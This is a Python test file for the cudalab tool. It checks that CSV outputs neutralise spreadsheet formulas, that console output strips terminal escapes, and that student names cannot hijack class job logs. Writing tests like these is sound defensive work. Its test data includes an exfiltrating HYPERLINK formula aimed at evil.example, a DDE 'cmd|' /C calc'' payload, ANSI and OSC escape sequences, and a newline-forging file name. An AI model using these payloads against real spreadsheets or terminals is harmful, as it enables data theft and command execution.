"""What cudalab writes from untrusted text is safe to open: CSV cells a spreadsheet would run
as formulas are neutralised in every CSV (leaderboard.csv, comparison.csv, `compare --csv`,
results.csv) and read back as they were; console lines carry no control characters; a
student's name cannot take a class job's log."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import yaml
from hostile import REFERENCE, ROOT, make_run

from cudalab import compare, results
from cudalab.cli import main
from cudalab.exercises import catalog, classroom, feedback

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]


def _cells(path: Path) -> list[list[str]]:
    with path.open(newline="") as f:  # a CR inside a quoted cell is the cell's
        return list(csv.reader(f))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert cell[:1] not in ("=", "+", "@", "\t", "\r") and not (
                cell.startswith("-") and not _number(cell)), (cell, row)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# -- CSV ----------------------------------------------------------------------------------------
def test_leaderboard_csv_neutralises_names_and_messages(tmp_path):
    verdicts = [{"student": "alice", "exercise": "vector_add", "status": "compile_error",
                 "message": m} for m in HOSTILE]
    verdicts.append({"student": "bob", "exercise": "vector_add", "status": "ok",
                     "timing": {"median_s": 2.5e-05, "gflops": 1.5, "size": [50000, 256],
                                "trials_s": [2.5e-05]}})
    rejected = [{"name": f"{h}.cu", "why": h} for h in HOSTILE]
    classroom.write_report(verdicts, [], rejected, "vector_add", tmp_path)
    rows = _cells(tmp_path / "leaderboard.csv")
    _no_formula(rows)
    cells = {c for r in rows for c in r}
    assert "'" + FORMULA in cells and "'-2+3" in cells and "'@SUM(1+1).cu" in cells
    bob = next(r for r in rows if r[1] == "bob")
    assert bob[4] == "2.5e-05"  # numbers stay numbers


def test_comparison_csv_neutralises_text_and_reads_back_exact(tmp_path, capsys):
    base, this = make_run(tmp_path / "base"), make_run(tmp_path / "this")
    for run in (base, this):
        src = run / "raw" / "vector_add" / "gpu-n50000-threads64.json"
        rec = json.loads(src.read_text())
        rec["point_id"] = rec["variant"] = FORMULA
        rec["timing"]["timer"] = "-evil"
        (run / "raw" / "vector_add" / "evil.json").write_text(json.dumps(rec))
    out = tmp_path / "c.csv"
    assert main(["compare", str(base), str(this), "--csv", str(out)]) == 0
    rows = _cells(out)
    _no_formula(rows)
    assert "'" + FORMULA in {c for r in rows for c in r}
    cmp = compare.read_comparison(out)
    evil = cmp[cmp["point_id"] == FORMULA]
    assert evil["variant"].item() == FORMULA and evil["method"].item() == "-evil"
    assert evil["verdict"].item() == "same"


def test_results_csv_neutralises_text_and_keeps_numbers(tmp_path):
    recs = [json.loads(p.read_text())
            for p in sorted((REFERENCE / "raw" / "vector_add").glob("gpu-*.json"))[:6]]
    for rec, text in zip(recs, HOSTILE, strict=True):
        rec["status"], rec["reason"] = "failed", text
    df = results.conform(results.build_table(recs))
    df.loc[0, "t_start"] = -1.5  # a negative number is a number, not a formula
    results.write_table(df, tmp_path / "results.csv")
    rows = _cells(tmp_path / "results.csv")
    _no_formula(rows)
    assert "-1.5" in rows[1]
    back = results.read_table(tmp_path / "results.csv")
    assert sorted(back["reason"]) == sorted(HOSTILE)
    assert back["t_start"].min() == -1.5


def test_csv_cells_round_trip_and_numbers_are_left_alone():
    from cudalab import safe_text

    frame = pd.DataFrame({"text": [*HOSTILE, "'quoted", "plain", "-1.5"],
                          "number": [-1.5] * 9})
    buf = io.StringIO()
    safe_text.write_frame(frame, buf)
    back = safe_text.uncsv_frame(pd.read_csv(io.StringIO(buf.getvalue()), dtype={"text": str}))
    assert list(back["text"]) == list(frame["text"])
    assert back["number"].dtype == float and (back["number"] == -1.5).all()


# -- the console --------------------------------------------------------------------------------
def test_a_file_name_with_a_newline_cannot_forge_a_verdict_line(tmp_path, capsys):
    f = tmp_path / "x\n✔ correct\n.cu"
    f.write_text('// cudalab-exercise: vector_add\n#include "secret.h"\n')
    assert main(["exercise", "check", str(f), "--no-gpu", "--student", "me"]) == 1
    out = capsys.readouterr().out
    assert not [ln for ln in out.splitlines() if ln.startswith("✔")], out
    assert "x\\n✔ correct\\n.cu" in out


def test_source_lines_and_messages_carry_no_terminal_escapes():
    verdict = {"file": "a.cu", "exercise": "vector_add", "status": "compile_error",
               "message": "nvcc failed\x1b[2J", "build": {"diagnostics": [
                   {"file": "a.cu\x1b[31m", "line": 3, "severity": "error",
                    "message": "bad\rtoken", "source": "int x;\t\x1b]0;pwned\x07 // \u202e"}]}}
    text = feedback.render(verdict)
    assert "\x1b" not in text and "\r" not in text and "\x07" not in text
    assert "\u202e" not in text
    assert "\\x1b]0;pwned\\x07" in text and "int x;\t" in text  # shown, tabs kept


def test_compare_prints_no_control_character_from_a_results_csv(tmp_path, capsys):
    df = pd.read_csv(REFERENCE / "results.csv", low_memory=False)
    df = df[df["experiment"] == "vector_add"].copy()
    df["point_id"] = df["point_id"] + "\x1b[31m"
    df["gpu_name"] = "GPU\x1b]0;owned\x07"
    for name in ("base", "this"):
        (tmp_path / name).mkdir()
        df.to_csv(tmp_path / name / "results.csv", index=False)
    assert main(["compare", str(tmp_path / "base"), str(tmp_path / "this")]) == 0
    cap = capsys.readouterr()
    assert "\x1b" not in cap.out + cap.err and "\x07" not in cap.out + cap.err
    assert "\\x1b[31m" in cap.out


# -- names -------------------------------------------------------------------------------------
def test_students_named_like_class_jobs_do_not_share_their_logs(tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    for name in ("baseline", "report", "alice"):
        shutil.copy(catalog.EXERCISE_DIR / "vector_add.cu", subs / f"{name}.cu")
    c = yaml.safe_load((ROOT / "tests" / "data" / "config.cpu.yaml").read_text())
    c["exercises"] = {"submissions": "subs", "exercise": "vector_add"}
    (tmp_path / "class.yaml").write_text(yaml.safe_dump(c))
    r = subprocess.run([sys.executable, "-m", "snakemake", "exercises", "-n", "-s",
                        str(ROOT / "Snakefile"), "--directory", str(tmp_path), "--cores", "1",
                        "--configfile", str(tmp_path / "class.yaml")],
                       capture_output=True, text=True, timeout=300, cwd=tmp_path,
                       env=dict(os.environ, PYTHONPATH=str(ROOT)))
    assert r.returncode == 0, r.stdout + r.stderr
    logs = [ln.split("log:", 1)[1].strip() for ln in (r.stdout + r.stderr).splitlines()
            if ln.strip().startswith("log:")]
    # three students, the baseline, the report, and the judges' own doctor
    assert len(logs) == 6 and "results/logs/doctor_class.log" in logs, logs
    assert len(set(logs)) == len(logs), logs
